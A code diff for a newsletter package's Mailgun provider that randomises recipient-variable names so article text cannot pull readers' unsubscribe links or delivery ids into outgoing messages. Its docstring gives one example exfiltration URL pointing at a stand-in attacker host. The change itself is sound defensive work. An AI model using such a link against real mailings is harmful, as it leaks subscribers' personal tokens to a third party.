@@ -7,9 +7,14 @@ of thousands, which is what Mailgun's own rate limits and queueing are built
 for.  Each recipient still gets a message of their own, because the request
 carries ``recipient-variables`` (without them every recipient would see every
 address in To).  The personal parts become ``%recipient.<key>%`` references:
-a plain key for the text and the subject and an ``_html`` key holding the
-escaped value for the HTML, plus ``delivery_id`` and ``list_unsubscribe`` for
-``v:nl-delivery-id`` (handed back in every webhook) and ``h:List-Unsubscribe``.
+a plain key for the text and an ``_html`` key holding the escaped value for the
+HTML, named by :func:`newsletter.links.server_key` (they keep the placeholder's
+random nonce), plus a delivery id and the List-Unsubscribe value for
+``v:nl-delivery-id`` (handed back in every webhook) and ``h:List-Unsubscribe``
+under names with a random suffix of their own.  Mailgun replaces
+``%recipient.<key>%`` anywhere in the text, so a fixed, guessable key would let
+an article link such as ``https://evil.example/?u=%recipient.list_unsubscribe%``
+carry every reader's own unsubscribe link away.
 
 What batch sending cannot do is keep our exact MIME: Mailgun builds the message,
 in UTF-8.  Readers who asked for ISO-2022-JP (old phones) would lose it, so a
@@ -26,7 +31,6 @@ costs about 2·log2(n) extra requests per bad address.  401 (bad key) and 404
 from __future__ import annotations
 
 import base64
-import html
 import json
 import secrets
 from collections.abc import Mapping, Sequence
@@ -35,6 +39,7 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
+from newsletter import links
 from newsletter.interfaces import OutgoingMessage, SendResult
 from newsletter.providers import OptionReader
 from newsletter.providers.http import (
@@ -48,7 +53,7 @@ from newsletter.providers.http import (
     whole,
 )
 
-__all__ = ["MailgunProvider", "multipart", "variable_name"]
+__all__ = ["MailgunProvider", "multipart", "reference"]
 
 BASE_URLS = {"us": "https://api.mailgun.net", "eu": "https://api.eu.mailgun.net"}
 MAX_RECIPIENTS = 1000
@@ -57,9 +62,9 @@ MAX_REQUEST_BYTES = 20_000_000
 MODES = ("batch", "mime")
 
 
-def variable_name(placeholder: str) -> str:
-    """``%%NL_GREETING%%`` → ``nl_greeting``: a recipient-variable key."""
-    return placeholder.strip("%").lower()
+def reference(key: str) -> str:
+    """How the message text names a recipient variable."""
+    return f"%recipient.{key}%"
 
 
 class MailgunProvider(HTTPProvider):
@@ -113,7 +118,7 @@ class MailgunProvider(HTTPProvider):
     def plan(self, batch: Sequence[OutgoingMessage]) -> list[list[OutgoingMessage]]:
         mime = [[m] for m in batch if self.uses_mime(m)]
         batched = [m for m in batch if not self.uses_mime(m)]
-        return split_by(batched, limit=self.max_batch, size=lambda m: len(json.dumps(_variables(m))) + 200,
+        return split_by(batched, limit=self.max_batch, size=lambda m: len(json.dumps(_variables(m, "0" * 16))) + 200,
                         budget=MAX_REQUEST_BYTES - _content_size(batched),
                         distinct=lambda m: m.recipient.lower()) + mime
 
@@ -126,15 +131,11 @@ class MailgunProvider(HTTPProvider):
         first = group[0]
         content = first.content
         assert content is not None
-        refs = {p: (f"%recipient.{variable_name(p)}%", f"%recipient.{variable_name(p)}_html%")
-                for p in first.personal}
-        subject, text = content.subject, content.text
-        markup = content.html
-        for placeholder, (plain, escaped) in refs.items():
-            subject = subject.replace(placeholder, plain)
-            text = text.replace(placeholder, plain)
-            if markup is not None:
-                markup = markup.replace(placeholder, escaped)
+        suffix = secrets.token_hex(8)
+        subject = content.subject
+        text = links.server_template(content.text, first.personal, reference, escaped=False)
+        markup = None if content.html is None else links.server_template(content.html, first.personal, reference,
+                                                                           escaped=True)
         fields: list[tuple[str, str | tuple[str, bytes, str]]] = [
             ("from", formataddr((content.from_name, content.from_address))),
         ]
@@ -146,9 +147,9 @@ class MailgunProvider(HTTPProvider):
             fields.append(("h:Reply-To", content.reply_to))
         fields += [(f"h:{name}", value) for name, value in content.headers.items()]
         fields += [
-            ("h:List-Unsubscribe", "%recipient.list_unsubscribe%"),
-            ("v:nl-delivery-id", "%recipient.delivery_id%"),
-            ("recipient-variables", json.dumps({m.recipient: _variables(m) for m in group},
+            ("h:List-Unsubscribe", reference(f"list_unsubscribe_{suffix}")),
+            ("v:nl-delivery-id", reference(f"delivery_id_{suffix}")),
+            ("recipient-variables", json.dumps({m.recipient: _variables(m, suffix) for m in group},
                                                ensure_ascii=False, separators=(",", ":"))),
         ]
         return self._request("messages", fields, group)
@@ -204,13 +205,10 @@ def _about_recipients(said: str) -> bool:
     return "'to'" in text or "recipient" in text or "to parameter" in text
 
 
-def _variables(message: OutgoingMessage) -> dict[str, str]:
-    values = {"delivery_id": str(message.delivery_id),
-              "list_unsubscribe": message.headers.get("List-Unsubscribe", "")}
-    for placeholder, value in message.personal.items():
-        values[variable_name(placeholder)] = value
-        values[variable_name(placeholder) + "_html"] = html.escape(value)
-    return values
+def _variables(message: OutgoingMessage, suffix: str) -> dict[str, str]:
+    return {f"delivery_id_{suffix}": str(message.delivery_id),
+            f"list_unsubscribe_{suffix}": message.headers.get("List-Unsubscribe", ""),
+            **links.server_values(message.personal)}
 
 
 def _content_size(batch: Sequence[OutgoingMessage]) -> int:
